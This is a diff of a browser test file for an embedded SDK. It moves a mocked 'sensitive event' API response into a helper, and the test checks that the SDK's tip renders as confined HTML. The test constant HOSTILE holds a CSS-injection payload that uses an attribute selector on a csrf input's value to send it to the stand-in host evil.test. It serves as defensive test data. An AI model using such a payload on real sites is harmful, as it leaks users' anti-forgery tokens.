@@ -5,6 +5,7 @@
 // confined profile as `message`: no global <style>, no page cover, no form. Item 8: a link in the
 // batch banner (the SDK's own drawing) asks before it takes the page to another origin.
 import { expect, openBlank, runInit, test } from '../embed/support';
+import { weakSensitiveAnswer } from '../support/answers';
 
 const HOSTILE =
   '<style>input[name=csrf][value^=a]{background:url(https://evil.test/a)}</style>' +
@@ -20,17 +21,7 @@ const confined = (html: string) => {
 test('item 7: the sensitive event carries the tip as confined html', async ({ page, demo }) => {
   await demo.fault({
     path: '/api/demo/sensitive',
-    body: {
-      code: 200,
-      status: true,
-      data: {
-        code: 401,
-        sensitiveScanCode: 's',
-        superviseType: 'weak',
-        weakConfirmTip: HOSTILE,
-        data: { sensitiveWords: 'x', sensitiveWordList: [{ name: 'Block', value: 'x' }] },
-      },
-    },
+    body: weakSensitiveAnswer('x', [{ name: 'Block', value: 'x' }], HOSTILE),
   });
   await openBlank(page);
   expect((await runInit(page, 'session', { extra: { ui: 'host' } })).ok).toBe(true);
